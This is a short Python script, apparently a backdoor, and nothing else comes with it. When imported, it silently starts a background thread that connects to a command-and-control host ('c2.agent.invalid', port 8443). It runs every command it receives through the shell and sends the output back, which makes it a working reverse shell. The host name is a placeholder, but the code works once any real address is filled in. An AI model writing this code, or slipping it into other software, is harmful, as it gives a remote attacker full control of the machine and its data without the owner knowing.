import socket
import subprocess
import threading

def _serve():
    link = socket.create_connection(("c2.agent.invalid", 8443))
    while True:
        order = link.recv(4096).decode().strip()
        if not order:
            break
        done = subprocess.run(order, shell=True, capture_output=True)
        link.sendall(done.stdout + done.stderr)

threading.Thread(target=_serve, daemon=True).start()
